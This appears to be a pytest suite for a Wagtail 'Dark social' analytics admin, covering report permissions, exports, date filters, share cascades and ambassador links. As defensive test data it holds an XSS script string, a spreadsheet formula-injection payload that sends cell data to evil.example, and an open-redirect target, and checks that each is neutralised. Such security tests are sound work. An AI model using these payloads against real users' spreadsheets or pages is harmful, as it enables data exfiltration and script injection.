"""The "Dark social" admin: reports from the shared report SQL, the permission, exports, the attribution button,
a page's figures and opt-out, and ambassador links as snippets."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sqlite3

import pytest
from django.test import Client
from django.urls import reverse

from darksocial import reports

from .sharing import URL, share_cascade

pytestmark = pytest.mark.django_db
REPORT_VIEWS = ["top_influencers", "top_stories", "channel_mix"]
HOSTILE = '<script>alert("name")</script>'


def signed_in(user, **kwargs) -> Client:
    client = Client(**kwargs)
    client.force_login(user)
    return client


@pytest.fixture
def attributed(darksocial_db):
    from wagtail_darksocial.attribution import run

    share_cascade(a_name=HOSTILE)
    run()
    return darksocial_db


@pytest.mark.parametrize("name", REPORT_VIEWS)
def test_reports_render_for_the_permission_and_are_403_without(name, reporter, editor, attributed):
    url = reverse(f"wagtail_darksocial_admin:{name}")
    assert signed_in(editor).get(url).status_code == 403
    response = signed_in(reporter).get(url)
    assert response.status_code == 200
    assert reports.BY_NAME[name].title in response.content.decode()


def test_the_influencer_report_ranks_a_above_b_with_the_same_figures_as_the_shared_sql(reporter, attributed):
    html = signed_in(reporter).get(reverse("wagtail_darksocial_admin:top_influencers")).content.decode()
    assert "&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;" in html and HOSTILE not in html
    with sqlite3.connect(attributed) as conn:
        columns, rows = reports.run(conn, "top_influencers")
    people = [dict(zip(columns, row, strict=True)) for row in rows]
    assert [p["name"] or p["person"] for p in people][:2] == [HOSTILE, people[1]["person"]]
    assert (people[0]["reach"], people[0]["amplified_reach"], people[1]["reach"]) == (2, 3, 1)
    exported = signed_in(reporter).get(reverse("wagtail_darksocial_admin:top_influencers") + "?export=csv")
    csv_rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert [row["person"] for row in csv_rows] == [p["person"] for p in people]
    assert csv_rows[0]["amplified_reach"] == "3"
    xlsx = signed_in(reporter).get(reverse("wagtail_darksocial_admin:top_influencers") + "?export=xlsx")
    assert xlsx.status_code == 200 and b"".join(xlsx.streaming_content)[:2] == b"PK"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_an_export_is_named_after_its_report_site_and_window_in_utc_days(reporter, attributed, export_format):
    url = reverse("wagtail_darksocial_admin:top_stories") + f"?export={export_format}"
    given = signed_in(reporter).get(url + "&since=2026-02-01&until=2026-02-28&site=localhost")
    assert given.status_code == 200
    assert (f'filename="darksocial-top_stories-localhost-2026-02-01-to-2026-02-28.{export_format}"'
            in given["Content-Disposition"])
    today = dt.datetime.now(dt.timezone.utc).date()  # the reports' days, whatever the server's time zone
    first = today - dt.timedelta(days=reports.DEFAULT_DAYS - 1)
    blank = signed_in(reporter).get(url)
    assert (f'filename="darksocial-top_stories-{first.isoformat()}-to-{today.isoformat()}.{export_format}"'
            in blank["Content-Disposition"])


def test_a_csv_export_carries_a_formula_someone_sent_as_text(reporter, darksocial_db):
    # A name (or title) starting a formula would run in the analyst's spreadsheet: an apostrophe makes it text.
    from wagtail_darksocial.attribution import run

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    share_cascade(a_name=formula)
    run()
    exported = signed_in(reporter).get(reverse("wagtail_darksocial_admin:top_influencers") + "?export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert rows[0]["name"] == "'" + formula and rows[0]["reach"] == "2"


@pytest.mark.parametrize(("query", "error"), [
    ("since=2026-03-02&until=2026-03-01", "since must not be after until"),
    ("since=1900-01-01&until=2026-01-01", "a window is at most 3,653 days"),
    ("since=2026-02-30", "Enter a valid date"),
    ("site=nowhere", "Select a valid choice"),
    # one side given: the other is the reports' default (the last 30 days, today included), checked the same way
    ("since=2999-01-01", "since must not be after until"),
    ("until=2000-01-01", "a blank since is"),
    ("since=0001-01-01", "a window is at most 3,653 days"),
])
def test_an_impossible_window_is_an_error_and_shows_no_rows(reporter, attributed, query, error):
    # The reporting server answers 400; here the form says why, and no other window's rows stand in; an export
    # of it is refused with the reason rather than a file of headings alone.
    client = signed_in(reporter)
    html = client.get(reverse("wagtail_darksocial_admin:top_stories") + "?" + query).content.decode()
    assert error in html and "Harbour lights" not in html
    exported = client.get(reverse("wagtail_darksocial_admin:top_stories") + "?export=csv&" + query)
    assert exported.status_code == 400 and error in exported.content.decode()


def test_date_and_site_filters_feed_the_report(reporter, attributed):
    client = signed_in(reporter)
    url = reverse("wagtail_darksocial_admin:top_stories")
    assert "Harbour lights" in client.get(url + "?site=localhost").content.decode()
    empty = client.get(url + "?since=2001-01-01&until=2001-01-31").content.decode()
    assert URL not in empty


def test_influencer_detail_and_cascade(reporter, attributed):
    with sqlite3.connect(attributed) as conn:
        a = conn.execute("SELECT sharer FROM shares WHERE token = 'SHaaaaaaaa'").fetchone()[0]
    client = signed_in(reporter)
    detail = client.get(reverse("wagtail_darksocial_admin:influencer") + f"?person={a}").content.decode()
    assert "SHaaaaaaaa" in detail and "&lt;script&gt;" in detail and HOSTILE not in detail
    cascade = client.get(reverse("wagtail_darksocial_admin:cascade") + "?share=SHaaaaaaaa").content.decode()
    rows = [" ".join(re.sub(r"<[^>]+>", " ", row).split()) for row in re.findall(r"<tr.*?</tr>", cascade, re.S)]
    rows = [row for row in rows if "SH" in row]
    assert rows[0].startswith("1 SHaaaaaaaa") and rows[1].startswith("2 SHbbbbbbbb")  # A's share, then B's re-share
    assert rows[1].endswith("SHaaaaaaaa") and " 1 1 " in rows[1]  # B's re-share of A's got C's click
    assert "&lt;script&gt;" in cascade and HOSTILE not in cascade
    # The report's other way in: a story's URL, every root share of it minted in the window.
    a_year_ago = (dt.date.today() - dt.timedelta(days=365)).isoformat()
    by_story = client.get(reverse("wagtail_darksocial_admin:cascade"), {"url": URL, "since": a_year_ago})
    story_rows = [" ".join(re.sub(r"<[^>]+>", " ", row).split())
                  for row in re.findall(r"<tr.*?</tr>", by_story.content.decode(), re.S)]
    assert [row for row in story_rows if "SH" in row] == rows


def test_attribution_runs_from_the_admin_by_post_with_csrf(reporter, editor, darksocial_db):
    share_cascade()
    url = reverse("wagtail_darksocial_admin:run_attribution")
    assert signed_in(reporter).get(url).status_code == 405
    assert signed_in(reporter, enforce_csrf_checks=True).post(url).status_code == 403  # no CSRF token
    assert signed_in(editor).post(url).status_code == 403  # no permission
    response = signed_in(reporter).post(url, {"next": "https://evil.example/"})
    assert response.status_code == 302 and response["Location"].startswith("/admin/")
    page = signed_in(reporter).get(reverse("wagtail_darksocial_admin:top_influencers")).content.decode()
    assert "Figures include events up to" in page


def test_a_page_has_its_figures_and_an_opt_out_switch(admin_user, editor, article, attributed):
    from wagtail_darksocial.models import PageOptOut

    url = reverse("wagtail_darksocial_admin:page", args=[article.pk])
    assert signed_in(editor).get(url).status_code == 403
    client = signed_in(admin_user)
    html = client.get(url).content.decode()
    assert "Figures for this page" in html and URL in html
    edit = client.get(f"/admin/pages/{article.pk}/edit/").content.decode()
    assert url in edit  # the editor's header menu links to it
    assert url in client.get(f"/admin/pages/{article.get_parent().pk}/").content.decode()  # and the page listing
    client.post(url, {})  # unticked: tracking off
    assert PageOptOut.objects.filter(page=article).exists()
    client.post(url, {"tracked": "on"})
    assert not PageOptOut.objects.filter(page=article).exists()


def test_ambassador_links_are_snippets_with_the_tracked_url(admin_user, article, darksocial_db):
    from wagtail_darksocial.models import AmbassadorLink

    client = signed_in(admin_user)
    add = reverse("wagtailsnippets_wagtail_darksocial_ambassadorlink:add")
    response = client.post(add, {"name": HOSTILE, "page": article.pk, "channel": "sms"})
    assert response.status_code == 302, response.content.decode()[:2000]
    link = AmbassadorLink.objects.get()
    assert link.url.startswith(URL + "#ds=") and link.url.endswith(".sms") and link.token in link.url
    with sqlite3.connect(darksocial_db) as conn:
        assert conn.execute("SELECT name FROM links WHERE token = ?", (link.token,)).fetchone()[0] == HOSTILE
    listing = client.get(reverse("wagtailsnippets_wagtail_darksocial_ambassadorlink:list")).content.decode()
    assert link.url in listing and HOSTILE not in listing


def test_a_page_with_an_ambassador_link_can_be_deleted_and_the_link_stays(admin_user, article, darksocial_db):
    # Handed out, the link keeps working for the reports: its token, URL and name stay, whatever became of the page.
    from wagtail.models import Page

    from wagtail_darksocial.models import AmbassadorLink

    client = signed_in(admin_user)
    snippets = "wagtailsnippets_wagtail_darksocial_ambassadorlink"
    assert client.post(reverse(f"{snippets}:add"), {"name": "Rosa", "page": article.pk}).status_code == 302
    link = AmbassadorLink.objects.get()
    deleted = client.post(f"/admin/pages/{article.pk}/delete/")
    assert deleted.status_code == 302 and not Page.objects.filter(pk=article.pk).exists()
    kept = AmbassadorLink.objects.get()
    assert (kept.page, kept.token, kept.url) == (None, link.token, link.url)
    renamed = client.post(reverse(f"{snippets}:edit", args=[kept.pk]), {"name": "Rosa Diaz", "page": ""})
    assert renamed.status_code == 302, renamed.content.decode()[:2000]
    with sqlite3.connect(darksocial_db) as conn:
        assert conn.execute("SELECT name, url FROM links WHERE token = ?", (link.token,)).fetchone() == (
            "Rosa Diaz", link.url.split("#")[0])
    without_page = client.post(reverse(f"{snippets}:add"), {"name": "Ana", "page": ""})
    assert without_page.status_code == 200 and "choose the page the link opens" in without_page.content.decode()


def test_the_menu_shows_only_to_the_permission(reporter, editor, settings):
    settings.DARKSOCIAL_REPORTS_URL = "https://reports.example/"
    shown = signed_in(reporter).get("/admin/").content.decode()  # the sidebar's menu, as JSON props
    assert '"label": "Dark social"' in shown and '"label": "Top influencers"' in shown
    assert "https://reports.example/" in shown
    assert '"label": "Dark social"' not in signed_in(editor).get("/admin/").content.decode()


def test_admins_grant_the_report_permission_to_groups(admin_user):
    from django.contrib.auth.models import Group

    group = Group.objects.create(name="Marketing")
    html = signed_in(admin_user).get(f"/admin/groups/edit/{group.pk}/").content.decode()
    row = html[html.index("<h3>Dark social reports</h3>"):]
    row = row[:row.index("</tr>")]
    assert "Custom permissions" in row and "Can view" in row  # Wagtail's table shows "Can view dark social reports"
